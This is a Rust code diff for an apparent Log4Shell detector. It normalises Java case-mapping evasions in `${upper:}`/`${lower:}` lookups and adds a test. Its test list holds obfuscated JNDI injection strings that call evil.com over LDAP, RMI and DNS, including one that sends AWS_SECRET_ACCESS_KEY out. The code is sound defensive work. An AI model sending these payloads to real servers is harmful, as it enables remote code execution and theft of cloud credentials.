@@ -32,7 +32,16 @@ fn resolve_lookups(text: &str) -> String {
             .strip_prefix("lower:")
             .or_else(|| lower.strip_prefix("upper:"))
         {
-            v.to_string()
+            // Java's case mapping folds a few non-ASCII letters into ASCII: `ı` upper-cases
+            // to `I`, `ſ` to `S`, the Kelvin sign lower-cases to `k` (`${upper:ı}`).
+            v.chars()
+                .map(|c| match c {
+                    '\u{131}' => 'i',
+                    '\u{17f}' => 's',
+                    '\u{212a}' => 'k',
+                    c => c,
+                })
+                .collect()
         } else if let Some(v) = lower.strip_prefix("date:") {
             v.trim_matches('\'').to_string()
         } else if lower.starts_with("jndi:") {
@@ -325,6 +334,7 @@ mod tests {
             "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.com/a}",
             "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap://evil.com/a}",
             "${${upper:j}${lower:N}di:dns://evil.com}",
+            "${jnd${upper:\u{131}}:ldap://evil.com/a}",
             "%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D",
             "User ${jndi:ldap://x.example/${env:AWS_SECRET_ACCESS_KEY}}",
         ] {
